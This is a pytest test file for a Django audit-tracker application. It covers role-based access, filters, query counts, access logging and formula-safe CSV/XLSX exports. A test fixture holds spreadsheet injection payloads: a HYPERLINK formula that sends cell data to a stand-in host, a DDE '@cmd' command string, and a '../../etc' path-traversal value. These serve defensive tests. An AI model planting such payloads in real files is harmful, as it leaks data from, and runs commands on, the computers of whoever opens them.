"""The central tracker (002: "a central tracker of all cases audited and any outstanding
actions"): who sees it, its filters (ids in the query string, never names), its pages, its
query count, and its exports (formula-safe, logged, for the QA team only)."""

from __future__ import annotations

import csv
import datetime as dt
import html
import io
import re

import pytest
import time_machine
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook

from auditloop.audits.models import Audit
from auditloop.common.models import AccessLog
from auditloop.people.roles import Role
from tests.audits.tracker_factories import audited_case, council, done, quick_action
from tests.factories import PersonFactory

pytestmark = pytest.mark.django_db
S = Audit.Status
NOW = dt.datetime(2026, 6, 20, 9, 0, tzinfo=dt.UTC)
TODAY = NOW.date()
TRACKER = reverse("audits:tracker")
ACTIONS = reverse("audits:tracker_actions")
CSV = reverse("audits:tracker_export_csv")
XLSX = reverse("audits:tracker_export_xlsx")


@pytest.fixture
def frozen():  # type: ignore[no-untyped-def]
    with time_machine.travel(NOW, tick=False):
        yield


@pytest.fixture
def two_teams(frozen):  # type: ignore[no-untyped-def]
    """Team North's case with an overdue red action and a done one; team South's case with
    an amber action not yet due."""
    north = council(team_name="North team")
    north.audit = audited_case(north, reference="C-NORTH-1", grade="requires_improvement")
    north.late = quick_action(north.audit, owner=north.kw, due_on=TODAY - dt.timedelta(days=4))
    north.finished = quick_action(north.audit, owner=north.kw, due_on=TODAY)
    done(north.finished, north)
    south = council(preset="", team_name="South team")
    south.audit = audited_case(south, reference="C-SOUTH-1", grade="good")
    south.open = quick_action(south.audit, owner=south.kw, due_on=TODAY + dt.timedelta(days=9))
    from auditloop.actions.services import action_set_progress

    action_set_progress(action=south.open, actor=south.kw, status="amber")
    return north, south


def action_url(action) -> str:  # type: ignore[no-untyped-def]
    return reverse("actions:action_detail", args=[action.pk])


def text(response) -> str:  # type: ignore[no-untyped-def]
    return response.content.decode()


# Who sees it -------------------------------------------------------------------------------

def test_the_qa_team_sees_every_audited_case_and_its_actions(two_teams, client_for):
    north, south = two_teams
    page = text(client_for(north.qa).get(TRACKER))
    assert "2 audited cases" in page
    for reference in ("C-NORTH-1", "C-SOUTH-1"):
        assert reference in page
    # Names read as shown (a name like O'Brien is O&#39;Brien in the HTML).
    shown = html.unescape(page)
    assert north.tm.full_name in shown and south.kw.full_name in shown
    assert "North team" in page and "Requires improvement" in page
    assert f'<strong class="govuk-tag govuk-tag--red">Red: not started</strong><br><a ' \
        f'class="govuk-link" href="{action_url(north.late)}">' in page
    assert "Overdue by 4 days" in page
    assert f"Signed off by {north.tm.full_name}" in shown
    assert "Amber: in progress" in page


def test_managers_see_only_the_cases_of_the_people_they_manage(two_teams, client_for):
    north, south = two_teams
    for manager in (north.tm, north.sm):
        page = text(client_for(manager).get(TRACKER))
        assert "C-NORTH-1" in page and "C-SOUTH-1" not in page
        assert "of the people you manage" in page
        # The owner filter names only the people whose actions they may see.
        owners = page.split('id="id_owner"')[1].split("</select>")[0]
        assert f'value="{north.kw.pk}"' in owners and f'value="{south.kw.pk}"' not in owners
    page = text(client_for(south.tm).get(ACTIONS))
    assert action_url(south.open) in page and action_url(north.late) not in page
    # Managers read the tracker at the performance meeting; they do not export it.
    assert "Download this view" not in page
    assert client_for(south.tm).get(CSV).status_code == 403


def test_a_manager_with_nobody_below_sees_an_empty_tracker(two_teams, client_for):
    page = text(client_for(PersonFactory(roles=[Role.TEAM_MANAGER])).get(TRACKER))
    assert "0 audited cases" in page and "No case has been audited yet" in page


def test_practitioners_and_auditors_may_not_open_it(two_teams, client_for):
    north, _ = two_teams
    for person in (north.kw, PersonFactory(roles=[Role.AUDITOR])):
        assert client_for(person).get(TRACKER).status_code == 403
        assert client_for(person).get(ACTIONS).status_code == 403


def test_it_takes_no_posts(two_teams, client_for):
    north, _ = two_teams
    for url in (TRACKER, ACTIONS):
        assert client_for(north.qa).post(url).status_code == 405
    # The exports take a post: the answer to "Why are you exporting this?".
    for url in (CSV, XLSX):
        assert client_for(north.qa).post(url).status_code == 400


def test_each_page_logs_the_audits_it_shows_in_the_access_log(two_teams, client_for):
    north, south = two_teams
    client_for(north.qa).get(TRACKER)
    listed = AccessLog.objects.filter(action=AccessLog.Action.LIST, object_type="audit",
                                      user=north.qa.user, path=TRACKER)
    assert sorted(listed.values_list("object_id", flat=True)) == sorted(
        [str(north.audit.pk), str(south.audit.pk)])
    # The manager's actions page: North's two actions are on one audit, logged once.
    client_for(north.tm).get(ACTIONS)
    assert list(AccessLog.objects.filter(user=north.tm.user).values_list(
        "action", "object_type", "object_id")) == [("list", "audit", str(north.audit.pk))]


def test_audits_not_yet_submitted_are_not_listed(frozen, client_for):
    w = council()
    audit = audited_case(w, reference="C-DONE-1")
    from tests.factories import make_audit

    make_audit(case=audit.case)  # allocated, not started
    page = text(client_for(w.qa).get(TRACKER))
    assert "1 audited case." in page


def test_an_immediate_concerns_actions_are_tracked_before_the_audit_is_finished(frozen,
                                                                             client_for):
    from tests.factories import make_immediate_concern

    w = council()
    concern = make_immediate_concern()
    page = text(client_for(w.qa).get(ACTIONS))
    link = concern.action_links.get()
    assert action_url(link.action) in page and "Immediate safeguarding concern" in page
    assert concern.audit.case.reference in text(client_for(w.qa).get(TRACKER))


def test_the_nav_shows_the_tracker_to_its_readers(two_teams, client_for):
    north, _ = two_teams
    # Grouped with the other following-up pages in their navigation.
    follow_up = reverse("work_group", args=["follow-up"])
    assert f'href="{TRACKER}"' in text(client_for(north.qa).get(follow_up))
    assert f'href="{TRACKER}"' in text(client_for(north.tm).get(follow_up))
    assert f'href="{TRACKER}"' not in text(client_for(north.kw).get(reverse("home")))


def test_the_home_page_counts_overdue_audit_actions(two_teams, client_for):
    north, south = two_teams
    home = text(client_for(north.qa).get(reverse("home")))
    assert "1 overdue audit action" in home and f'href="{ACTIONS}?overdue=1"' in home
    assert "overdue audit action" not in text(client_for(south.tm).get(reverse("home")))


# Filters ------------------------------------------------------------------------------------

def actions_shown(page: str) -> set[int]:
    return {int(n) for n in re.findall(r'href="/actions/(\d+)/"', page)}


def test_filters_pick_the_actions(two_teams, client_for):
    north, south = two_teams
    qa = client_for(north.qa)
    cases = {
        f"team={north.team.pk}": {north.late.pk, north.finished.pk},
        f"service={south.team.service_id}": {north.late.pk, north.finished.pk, south.open.pk},
        f"locality={south.team.locality_id}": {south.open.pk},
        f"owner={south.kw.pk}": {south.open.pk},
        "status=red": {north.late.pk},
        "status=amber": {south.open.pk},
        "status=done": {north.finished.pk},
        "status=open": {north.late.pk, south.open.pk},
        "overdue=on": {north.late.pk},
        "grade=good": {south.open.pk},
        f"team={north.team.pk}&overdue=on": {north.late.pk},
    }
    for query, expected in cases.items():
        assert actions_shown(text(qa.get(f"{TRACKER}?{query}"))) == expected, query
    # The actions view lists outstanding actions unless a status says otherwise.
    assert actions_shown(text(qa.get(ACTIONS))) == {north.late.pk, south.open.pk}
    assert actions_shown(text(qa.get(f"{ACTIONS}?status=done"))) == {north.finished.pk}


def test_waiting_for_sign_off_is_a_status_of_its_own(two_teams, client_for):
    north, south = two_teams
    from auditloop.actions.services import action_submit_for_sign_off

    action_submit_for_sign_off(action=south.open, actor=south.kw, evidence="Done")
    page = text(client_for(north.qa).get(f"{ACTIONS}?status=awaiting"))
    assert actions_shown(page) == {south.open.pk}
    assert "Waiting for sign-off" in page and f"Sign-off by {south.tm.full_name}" in page
    assert actions_shown(text(client_for(north.qa).get(f"{ACTIONS}?status=amber"))) == set()


def test_the_filters_travel_as_ids_never_names(two_teams, client_for):
    north, _ = two_teams
    page = text(client_for(north.qa).get(f"{TRACKER}?team={north.team.pk}&owner={north.kw.pk}"))
    hrefs = re.findall(r'href="([^"]+)"', page)
    with_filters = [h for h in hrefs if "team=" in h]
    assert with_filters, "the other view and the downloads keep the filters"
    for href in with_filters:
        assert f"team={north.team.pk}" in href and f"owner={north.kw.pk}" in href
        for name in (north.team.name, north.kw.full_name, "C-NORTH-1"):
            assert name.replace(" ", "+") not in href and name not in href
    # The filter form's options are ids.
    assert f'<option value="{north.team.pk}" selected>North team</option>' in page


def test_a_filter_that_does_not_exist_says_what_to_do(two_teams, client_for):
    north, _ = two_teams
    response = client_for(north.qa).get(f"{TRACKER}?team=999999")
    assert response.status_code == 400
    assert "There is a problem" in text(response) and "<title>Error:" in text(response)


def test_pages_keep_the_filters(frozen, client_for):
    w = council()
    for n in range(27):
        quick_action(audited_case(w), owner=w.kw, due_on=TODAY - dt.timedelta(days=1 + n))
    page = text(client_for(w.qa).get(f"{ACTIONS}?overdue=on"))
    assert "27 actions match the filters" in page and "Page 1 of 2" in page
    assert 'href="?overdue=1&amp;page=2"' in page
    assert "Page 2 of 2" in text(client_for(w.qa).get(f"{ACTIONS}?overdue=1&page=2"))


# Query counts -------------------------------------------------------------------------------

def _queries(client, url: str) -> int:  # type: ignore[no-untyped-def]
    with CaptureQueriesContext(connection) as ctx:
        assert client.get(url).status_code == 200
    return len(ctx)


def _grow(w, audits: int, actions_each: int) -> None:  # type: ignore[no-untyped-def]
    from auditloop.audits.overdue import overdue_actions_escalate

    for _ in range(audits):
        audit = audited_case(w)
        for n in range(actions_each):
            action = quick_action(audit, owner=w.kw, due_on=TODAY - dt.timedelta(days=20 + n))
            if n % 3 == 1:
                done(action, w)
    framework = {"overdue_action_escalation": [{"after_days": 1, "to": ["case_team_manager"]}]}
    from auditloop.standards.services import framework_settings_set

    framework_settings_set(values=framework, actor=None, reason="Test")
    overdue_actions_escalate(today=TODAY)


@pytest.mark.parametrize("url", [TRACKER, ACTIONS, f"{TRACKER}?overdue=on&status=open",
                                 f"{ACTIONS}?team={{team}}"])
def test_the_query_count_does_not_grow_with_actions_and_audits(frozen, client_for, url,
                                                               django_assert_max_num_queries):
    w = council()
    url = url.format(team=w.team.pk)  # ids differ between databases
    qa, tm = client_for(w.qa), client_for(w.tm)
    _grow(w, audits=1, actions_each=3)
    # A session's first request restarts its idle clock (people.sessions): not measured.
    _queries(qa, url), _queries(tm, url)
    small = (_queries(qa, url), _queries(tm, url))
    _grow(w, audits=9, actions_each=3)  # 30 actions on 10 audits
    assert (_queries(qa, url), _queries(tm, url)) == small
    # Measured: 19 for the QA manager (the session, the user and their roles, the
    # framework's settings, the filters' choices and grade labels, and the tracker's own:
    # count, audits, actions, owners, escalations, confirmations), and one for the audits a
    # panel member has yet to moderate blind (left out). One more: the access log's rows
    # for the audits the page shows, in one insert. One more again: the request's own
    # bookkeeping outside the tracker (measured at 22 before the access log's insert).
    with django_assert_max_num_queries(23):
        qa.get(url)


# Exports --------------------------------------------------------------------------------------

REASON = {"reason": "The performance meeting"}


def _export(client, url):  # type: ignore[no-untyped-def]
    """An export: the question is answered, then the file comes back."""
    return client.post(url, REASON)


def test_the_csv_export_is_the_filtered_view(two_teams, client_for):
    north, _ = two_teams
    response = _export(client_for(north.qa), f"{CSV}?view=cases&team={north.team.pk}")
    assert response.status_code == 200
    assert response["Content-Disposition"] == (
        'attachment; filename="audit-tracker-cases-2026-06-20.csv"')
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0][:3] == ["Case reference", "Service", "Team"]
    # The header, North's two actions, a blank line and who exported it when.
    assert len(rows) == 5 and rows[3] == []
    assert rows[4] == [f"Exported by {north.qa.user.get_full_name() or north.qa.user.username}"
                       " on 20 June 2026 at 10:00"]  # 9:00 UTC is 10:00 in London
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["Case reference"] == "C-NORTH-1" and row["Action"] == str(north.late.pk)
    assert row["Days overdue"] == "4" and row["RAG"] == "Red: not started"
    assert row["Team manager"] == north.tm.full_name and row["Final grade"] == (
        "Requires improvement to be good")
    signed = dict(zip(rows[0], rows[2], strict=True))
    assert signed["Signed off by"] == north.tm.full_name and signed["RAG"] == "Green: done"


def test_exports_are_recorded_in_the_access_log(two_teams, client_for):
    north, _ = two_teams
    _export(client_for(north.qa), f"{XLSX}?view=actions&team={north.team.pk}&overdue=1")
    log = AccessLog.objects.get()
    assert log.reason == "The performance meeting"
    assert (log.user, log.action, log.object_type) == (north.qa.user, AccessLog.Action.EXPORT,
                                                       "audit_tracker_actions")
    assert log.object_id == f"team={north.team.pk}&overdue=1"


def test_only_those_who_may_export_the_register_download_it(two_teams, client_for):
    north, _ = two_teams
    for role in (Role.ASSISTANT_DIRECTOR, Role.PRINCIPAL_SOCIAL_WORKER, Role.SERVICE_MANAGER):
        person = PersonFactory(roles=[role])
        assert client_for(person).get(TRACKER).status_code == 200
        assert _export(client_for(person), XLSX).status_code == 403
    assert not AccessLog.objects.filter(action=AccessLog.Action.EXPORT).exists()
    assert _export(client_for(PersonFactory(roles=[Role.HEAD_OF_QA])), XLSX).status_code == 200


@pytest.fixture
def malicious(frozen):  # type: ignore[no-untyped-def]
    w = council()
    w.kw.full_name = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    w.kw.save(update_fields=["full_name"])
    audit = audited_case(w, reference="C-EVIL-1")
    w.action = quick_action(audit, owner=w.kw, due_on=TODAY, issue="+SUM(1,2)",
                            action="@cmd|' /C calc'!A0")
    return w


def test_the_xlsx_export_writes_formulas_as_inert_text(malicious, client_for):
    w = malicious
    response = _export(client_for(w.qa), f"{XLSX}?view=cases")
    assert response["Content-Type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
    assert response["Content-Disposition"] == (
        'attachment; filename="audit-tracker-cases-2026-06-20.xlsx"')
    sheet = load_workbook(io.BytesIO(response.content)).active
    header = [c.value for c in sheet[1]]
    cells = dict(zip(header, sheet[2], strict=True))
    for column, value in (("Key worker", w.kw.full_name), ("Owner", w.kw.full_name),
                          ("Issue", "+SUM(1,2)"), ("What will be done", "@cmd|' /C calc'!A0")):
        cell = cells[column]
        assert cell.data_type == "s", column
        assert cell.value == "'" + value, column
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    # Dates are dates and counts are numbers.
    assert cells["Due"].value.date() == TODAY and cells["Audit"].value == w.action.audit_link \
        .audit_id


def test_the_csv_export_neutralises_formulas(malicious, client_for):
    w = malicious
    body = _export(client_for(w.qa), f"{CSV}?view=actions").content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body)))
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["Owner"] == "'" + w.kw.full_name
    assert row["Issue"] == "'+SUM(1,2)" and row["What will be done"].startswith("'@")


def test_an_unknown_view_exports_the_cases(two_teams, client_for):
    north, _ = two_teams
    response = _export(client_for(north.qa), f"{CSV}?view=../../etc")
    assert 'filename="audit-tracker-cases-' in response["Content-Disposition"]


# The demo council ------------------------------------------------------------------------------

def test_the_demo_council_gets_a_spread_of_actions_once(frozen):
    import random

    from auditloop.actions.models import Action
    from auditloop.audits.models import ActionEscalation, AuditAction
    from auditloop.demo import tracker as demo_tracker
    from auditloop.demo.structure import DEMO_SOURCE

    w = council()
    for n in range(12):
        audit = audited_case(w, to=S.FEEDBACK_SENT if n < 3 else S.CLOSED, source=DEMO_SOURCE)
        Audit.objects.filter(pk=audit.pk).update(
            submitted_at=NOW - dt.timedelta(days=10 + 25 * n))
    built = demo_tracker.build(random.Random(4), TODAY)
    assert built.actions == AuditAction.objects.count() > 0
    statuses = set(Action.objects.values_list("status", flat=True))
    assert statuses >= {Action.Status.GREEN, Action.Status.AMBER}
    assert Action.objects.filter(due_on__lt=TODAY).exclude(status="green").exists()
    assert built.escalations == ActionEscalation.objects.count() > 0
    # Each action's life is dated back, never in the future.
    assert not Action.objects.filter(created_at__gt=NOW).exists()
    again = demo_tracker.build(random.Random(4), TODAY)
    assert again.actions == 0 and AuditAction.objects.count() == built.actions
